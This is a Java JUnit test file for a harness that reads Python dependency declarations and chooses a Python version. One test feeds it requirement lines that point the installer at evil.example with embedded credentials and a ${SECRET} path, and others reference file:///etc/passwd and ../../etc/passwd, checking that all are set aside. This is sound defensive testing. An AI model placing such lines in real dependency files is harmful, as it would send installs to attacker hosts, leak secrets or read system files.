package org.labharness.pipeline.environment;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.labharness.lab.EnvironmentSpec;
import org.labharness.pipeline.document.TreeReader;
import org.labharness.pipeline.evidence.EnvironmentFacts.SetAside;

class DeclarationFinderTests {
    @TempDir
    private Path tree;

    private Declarations find() {
        return DeclarationFinder.find(new TreeReader(tree), EnvironmentSpec.OF_THE_SUBMISSION);
    }

    private List<String> lines() {
        return find().requirements().stream().map(Requirement::line).toList();
    }

    private void write(String file, String content) throws IOException {
        Path path = tree.resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, content);
    }

    @Nested
    class RequirementsFiles {
        @ParameterizedTest
        @ValueSource(strings = {"UTF-8", "UTF-16LE", "UTF-16BE"})
        void areReadWhateverEncodingWindowsGaveThem(String charset) throws IOException {
            Files.write(
                    tree.resolve("requirements.txt"),
                    "\uFEFFpandas==2.2.0\r\nnumpy\r\n".getBytes(Charset.forName(charset)));
            assertThat(lines()).containsExactly("pandas==2.2.0", "numpy");
        }

        @Test
        void loseCommentsHashesAndLineBreaks() throws IOException {
            write("requirements.txt", """
                    # all of it
                    pandas==2.2.0 \\
                        --hash=sha256:00 \\
                        --hash=sha256:11
                    numpy  # for arrays
                    requests #""");
            assertThat(lines()).containsExactly("pandas==2.2.0", "numpy", "requests");
            assertThat(find().requirements().getFirst().where()).hasToString("requirements.txt:2");
        }

        @Test
        void redirectTheInstallerNowhere() throws IOException {
            write("requirements.txt", """
                    --index-url https://user:secret@evil.example/simple
                    --extra-index-url=http://evil.example/${SECRET}/simple
                    -i https://evil.example
                    --trusted-host evil.example
                    -f ./wheels
                    --no-binary :all:
                    -e .
                    ./local
                    file:///etc/passwd
                    pandas
                    """);
            Declarations found = find();
            assertThat(found.requirements()).extracting(Requirement::line).containsExactly("pandas");
            assertThat(found.setAside()).hasSize(9).noneMatch(SetAside::fault);
            assertThat(found.setAside()).extracting(SetAside::requirement).noneMatch(text -> text.contains("secret"));
        }

        @Test
        void followOneAnotherInsideTheTreeAlone() throws IOException {
            write("requirements.txt", "-r sub/more.txt\n-r ../../etc/passwd\n-r gone.txt\n-r requirements.txt\n");
            write("sub/more.txt", "numpy\n-r ../requirements.txt\n");
            Declarations found = find();
            assertThat(found.requirements()).extracting(Requirement::line).containsExactly("numpy");
            assertThat(found.setAside()).extracting(SetAside::reason).anyMatch(text -> text.contains("outside"));
            assertThat(found.setAside())
                    .extracting(SetAside::reason)
                    .anyMatch(text -> text.contains("sub/gone.txt") || text.contains("gone.txt"));
            assertThat(found.files()).containsExactly("requirements.txt", "sub/more.txt");
        }

        @Test
        void areReadUpToACap() throws IOException {
            write("requirements.txt", "package-0\n".repeat(4_999) + "x\n".repeat(10_000));
            Declarations found = find();
            assertThat(found.requirements()).hasSizeLessThanOrEqualTo(2);
            assertThat(found.setAside()).extracting(SetAside::reason).anyMatch(text -> text.contains("5000 lines"));
        }

        @Test
        void nameEachPackageOnceOnly() throws IOException {
            write("requirements.txt", "scikit_learn==1.3\nScikit-Learn==1.4\n");
            assertThat(lines()).containsExactly("scikit_learn==1.3");
            assertThat(find().setAside()).hasSize(1);
        }

        @Test
        void areFoundOneFolderBelowWhereNothingElseDeclaresAnything() throws IOException {
            write("app/requirements.txt", "numpy\n");
            assertThat(lines()).containsExactly("numpy");
        }

        @Test
        void forTestsAreNotForTheRun() throws IOException {
            write("requirements-dev.txt", "pytest\n");
            write("requirements_train.txt", "numpy\n");
            assertThat(lines()).containsExactly("numpy");
        }
    }

    @Nested
    class OtherFiles {
        @Test
        void ofAProjectCountWhereNoRequirementsFileDoes() throws IOException {
            write("pyproject.toml", """
                    [project]
                    requires-python = ">=3.12"
                    dependencies = ["pandas>=2", "numpy==2.1.0"]
                    """);
            assertThat(lines()).containsExactly("pandas>=2", "numpy==2.1.0");
            assertThat(find().python()).contains(">=3.12");
        }

        @Test
        void ofCondaGiveTheirPipPartAndTheirPackages() throws IOException {
            write("conda.yaml", """
                    dependencies:
                      - python=3.10
                      - numpy=1.24
                      - pip
                      - pip:
                        - mlflow==2.9.2
                    """);
            assertThat(lines()).containsExactlyInAnyOrder("numpy==1.24.*", "mlflow==2.9.2");
            assertThat(find().python()).contains("3.10");
        }

        @Test
        void ofAnMlprojectMayNameARequirementsFile() throws IOException {
            write("python_env.yaml", "python: 3.11.4\ndependencies: [-r deps/list.txt, numpy]\n");
            write("deps/list.txt", "pandas\n");
            assertThat(lines()).containsExactly("pandas", "numpy");
        }

        @Test
        void areNotNeeded() {
            assertThat(find().isEmpty()).isTrue();
            assertThat(find().files()).isEmpty();
        }
    }

    @Test
    void aLabsPackagesReplaceWhatIsDeclared() throws IOException {
        write("requirements.txt", "evil\n");
        Declarations found =
                DeclarationFinder.find(new TreeReader(tree), new EnvironmentSpec(null, List.of("pandas==2.2.0")));
        assertThat(found.requirements()).extracting(Requirement::line).containsExactly("pandas==2.2.0");
        assertThat(found.files()).containsExactly("lab.yaml");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            >=3.12        | 3.13
            3.10          | 3.11
            3.12.1        | 3.13
            >=3.9,<3.12   | 3.11
            >=3.9         | 3.11
            >3.11         | 3.13
            ^3.13         | 3.13
            system        | 3.11
            """)
    void thePythonAskedForChoosesAmongOurs(String asked, String python) throws IOException {
        Files.write(tree.resolve(".python-version"), asked.getBytes(StandardCharsets.UTF_8));
        assertThat(PythonChoice.of(null, find().python()).version()).hasToString(python);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            ^1.2.3 | a>=1.2.3,<2
            ^0.3.1 | a>=0.3.1,<0.4
            ~1.2   | a>=1.2,<1.3
            1.5    | a==1.5
            >=2,<3 | a>=2,<3
            *      | a
            """)
    void poetrysVersionsBecomePips(String version, String requirement) throws IOException {
        write("pyproject.toml", "[tool.poetry.dependencies]\na = \"" + version + "\"\n");
        assertThat(lines()).containsExactly(requirement);
    }
}
